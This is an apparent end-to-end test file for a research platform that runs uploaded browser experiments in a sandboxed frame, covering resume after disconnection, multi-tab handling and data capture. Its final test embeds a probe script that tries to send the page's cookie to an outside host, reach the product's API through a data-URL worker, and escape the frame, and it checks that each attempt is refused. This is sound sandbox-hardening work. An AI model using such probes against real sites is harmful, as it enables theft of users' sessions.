import type { Page } from 'playwright-core';
import { seriousViolations, horizontalOverflow } from '../support/accessibility';
import { callApi } from '../support/api';
import { useBrowser } from '../support/browser';
import {
  enrolAndOpenStudy,
  clickBegin,
  readPackageFile,
  recordsOfSession,
  launchUploadedStudy,
  trialsIn,
  waitUntilStored,
} from '../support/running-here';
import { see, seeHeading, seeText } from '../support/see';

const browser = useBrowser();
/** A study made with jsPsych 8, without any adaptation to this product. */
const words = {
  'index.html': Buffer.from(`<!doctype html>
<html lang="en"><head><title>Words</title>
<script src="jspsych.js"></script><script src="keyboard.js"></script></head>
<body></body><script src="study.js"></script></html>`),
  'jspsych.js': readPackageFile('jspsych/dist/index.browser.min.js'),
  'keyboard.js': readPackageFile(
    '@jspsych/plugin-html-keyboard-response/dist/index.browser.min.js',
  ),
  'study.js': Buffer.from(`
const jsPsych = initJsPsych({ on_finish: () => jsPsych.data.addProperties({ group: 'a' }) });
const words = jsPsych.randomization.shuffle(['red', 'green', 'blue', 'black']);
jsPsych.run(words.map((word) => ({
  type: jsPsychHtmlKeyboardResponse, stimulus: '<p>' + word + '</p>', choices: ['f'], data: { word },
  on_finish: (data) => { data.correct = true; },
})));`),
};

const shown = (page: Page) => page.frameLocator('iframe').locator('#jspsych-content p');
/** Answers the shown word, and waits for the next one. @returns the answered word */
async function answer(page: Page): Promise<string> {
  const word = (await shown(page).textContent()) ?? '';
  await page.keyboard.press('f');
  // Waits for the next word in the frame, or for the page that replaces the frame.
  await Promise.race([
    shown(page).filter({ hasNotText: word }).waitFor(),
    page.getByRole('heading', { level: 1 }).waitFor(),
  ]);
  return word;
}

describe('study that runs here', () => {
  it('stores each trial despite a lost connection and a reload, and is completed once all trials have arrived', async () => {
    const study = await launchUploadedStudy(words, 'Words and keys');
    const { page, participation, person } = await enrolAndOpenStudy(browser, study);
    await page.goto(`/study/details/${study.study_id}`);
    await page.getByRole('link', { name: 'Begin the study' }).click();
    await page.waitForURL(`**/run/${participation}`);
    await seeHeading(page, 'Words and keys');
    expect(await seriousViolations(page)).toEqual([]);
    await clickBegin(page);
    const seen = [await answer(page)];
    await page.context().setOffline(true);
    seen.push(await answer(page));
    await seeText(page, 'Waiting for your connection');
    await page.context().setOffline(false);
    await see(page.getByRole('status').filter({ hasText: /^Saved$/ }));
    // Discards the browser's messages that it could not reach the server.
    browser.problems.splice(0);

    await page.reload();
    await clickBegin(page);
    // The run goes on with the third word: the order is the same, and answered words are not
    // repeated.
    while (seen.length < 4) seen.push(await answer(page));
    expect([...seen].sort()).toEqual(['black', 'blue', 'green', 'red']);
    await seeHeading(page, 'All of your answers have arrived');
    expect(await seriousViolations(page)).toEqual([]);

    const { items } = await callApi<{ items: { state: string }[] }>('GET', '/api/participations/', {
      token: person.token,
    });
    expect(items).toMatchObject([{ state: 'completed' }]);
    const records = await recordsOfSession(study.session_id);
    expect(trialsIn(records)).toEqual(
      seen.map((word) => expect.objectContaining({ word, correct: true }) as object),
    );
    expect(records.filter(({ kind }) => kind === 'amend')).toHaveLength(4);
    expect(records.at(-1)?.kind).toBe('finish');
  });

  it('continues only in the tab that began last, also on a phone', async () => {
    const study = await launchUploadedStudy(words, 'Words in two tabs');
    const { page, participation } = await enrolAndOpenStudy(browser, study, 360);
    await page.goto(`/run/${participation}`);
    await seeHeading(page, 'Words in two tabs');
    expect(await horizontalOverflow(page)).toEqual([]);
    await clickBegin(page);
    await answer(page);
    const other = await page.context().newPage();
    await other.goto(`/run/${participation}`);
    await clickBegin(other);
    await seeHeading(page, 'The study goes on in another tab');
    for (let i = 0; i < 3; i++) await answer(other);
    await seeHeading(other, 'All of your answers have arrived');
    expect(trialsIn(await recordsOfSession(study.session_id))).toHaveLength(4);
  });

  it('continues in another browser at the same page and with the same condition', async () => {
    const files = {
      'index.html': Buffer.from(`<!doctype html><body><button>Next</button><script>
document.querySelector('button').onclick = () => {
  sessionStorage.setItem('said', 'yes'); location.href = 'parts/two.html?after=one';
};</script></body>`),
      'parts/two.html': Buffer.from(`<!doctype html><body><p></p><button>End</button><script>
const { name, delay } = commonlab.condition;
const text = [name, delay, sessionStorage.getItem('said'), location.search].join(' ');
document.querySelector('p').textContent = text;
document.querySelector('button').onclick = () => { commonlab.record({ text }); commonlab.finish(); };
</script></body>`),
    };
    const cells = ['fast', 'slow'].map((name, i) => ({ name, share: 1, values: { delay: i } }));
    const study = await launchUploadedStudy(files, 'Two pages', {
      resume: { mode: 'component', hours: 24 },
      conditions: { draw: 'least_filled', blinded: false, cells },
    });
    const { page, participation, person } = await enrolAndOpenStudy(browser, study);
    const inFrame = (on: Page) => on.frameLocator('iframe');
    await page.goto(`/run/${participation}`);
    await clickBegin(page);
    await inFrame(page).getByRole('button', { name: 'Next' }).click();
    await see(inFrame(page).getByText(/^(fast 0|slow 1) yes \?after=one$/));
    const text = await inFrame(page).getByRole('paragraph').textContent();
    // The records of the first page arrived before this record of the second page. So once this
    // record is stored, the records of the first page are stored, too.
    await waitUntilStored(study.session_id, (records) =>
      records.some(({ kind, data }) => kind === 'event' && data.includes('parts/two.html')),
    );
    await page.close();
    const other = await browser.open({ as: person, cookiesAccepted: false });
    await other.goto(`/run/${participation}`);
    await clickBegin(other);
    await see(inFrame(other).getByText(text ?? '', { exact: true }));
    await inFrame(other).getByRole('button', { name: 'End' }).click();
    await seeHeading(other, 'All of your answers have arrived');
    expect(trialsIn(await recordsOfSession(study.session_id))).toEqual([{ text }]);
  });

  it('gets an answer to its own requests for sending data, which are stored as records', async () => {
    const files = {
      'index.html': Buffer.from(`<!doctype html><body><script>
const post = (url, body) => fetch(url, { method: 'POST', body: JSON.stringify(body) });
(async () => {
  const sent = await post('https://pipe.jspsych.org/api/data/', { filename: 'a', data: 'a,b' });
  const rows = [{ n: 1 }, { n: 2 }];
  const old = new XMLHttpRequest();
  old.open('POST', 'write_data.php');
  old.onload = async () => {
    commonlab.record({ sent: sent.status, old: old.status });
    void post('https://pipe.jspsych.org/api/data/', { filename: 'z', data: 'late' });
    await post('backend.php', { metadata: { payload: 'full' }, data: rows });
  };
  old.send(JSON.stringify({ filename: 'b', filedata: 'c'.repeat(300000) }));
})();</script></body>`),
    };
    const study = await launchUploadedStudy(files, 'A study that sends');
    const { page, participation } = await enrolAndOpenStudy(browser, study);
    await page.goto(`/run/${participation}`);
    await clickBegin(page);
    await seeHeading(page, 'All of your answers have arrived');
    const records = await recordsOfSession(study.session_id);
    expect(trialsIn(records)).toEqual([{ sent: 201, old: 200 }, { n: 1 }, { n: 2 }]);
    const texts = records.filter(({ kind }) => kind === 'text').map(({ data }) => data);
    // A long text is stored as several records, each of which is short enough.
    expect(texts.join(' ').replace(/ ?c+ ?/g, 'c')).toBe('a,bcccclate');
    expect(texts.join('').length).toBe(300_000 + 'a,b'.length + 'late'.length);
    expect(records.some(({ kind }) => kind === 'lost')).toBe(false);
  });

  it('cannot reach a token, our pages, the API or another host', async () => {
    const study = await launchUploadedStudy(
      {
        'index.html': Buffer.from('<!doctype html><body><script src="study.js"></script></body>'),
        'study.js': Buffer.from(`
const tries = {
  cookie: () => document.cookie,
  parent: () => parent.document.cookie,
  top: () => { top.location = 'https://example.org/?' + document.cookie; return 'left'; },
  // Fetches in a worker that is started from a data address, since none of our scripts changes the
  // requests of such a worker.
  call: () => new Promise((done, no) => {
    const address = JSON.stringify(new URL('/api/users/profile/', location.href).href);
    const code = 'fetch(' + address + ').then((a) => postMessage(a.status), () => postMessage(0))';
    const worker = new Worker('data:text/javascript,' + encodeURIComponent(code));
    worker.onmessage = ({ data }) => data === 0 ? no(new Error('no answer')) : done(data);
    worker.onerror = no;
  }),
  // The server takes a request from the study's page for a request of one of its files, whatever the path.
  file: async () => (await fetch('/api/users/profile/')).status,
  elsewhere: async () => (await fetch('https://example.org/')).status,
  socket: () => new Promise((done, no) => {
    const one = new WebSocket('wss://example.org/'); one.onopen = () => done('open'); one.onerror = no;
  }),
  window: () => open('/profile') === null ? Promise.reject(new Error('no window')) : 'opened',
};
(async () => {
  for (const [what, run] of Object.entries(tries)) {
    let came;
    try { came = await run(); } catch (error) { came = 'refused'; }
    commonlab.record({ what, came: came === undefined ? 'nothing' : came });
  }
  commonlab.finish();
})();`),
      },
      'A study that tries',
    );
    const { page, participation } = await enrolAndOpenStudy(browser, study);
    await page.goto(`/run/${participation}`);
    await clickBegin(page);
    await seeHeading(page, 'All of your answers have arrived');
    expect(page.url()).toContain(`/run/${participation}`);
    const came = Object.fromEntries(
      trialsIn(await recordsOfSession(study.session_id)).map((trial) => {
        const { what, came } = trial as { what: string; came: unknown };
        return [what, came];
      }),
    );
    expect(came).toEqual({
      cookie: '',
      parent: 'refused',
      top: 'refused',
      call: 'refused',
      file: 404,
      elsewhere: 'refused',
      socket: 'refused',
      window: 'refused',
    });
    // The console shows each refusal, and nothing else.
    const others = browser.problems
      .splice(0)
      .filter(
        (one) =>
          !/Content Security Policy|sandbox|example\.org|Blocked|Unsafe|status of 404/i.test(one),
      );
    expect(others).toEqual([]);
  });
});
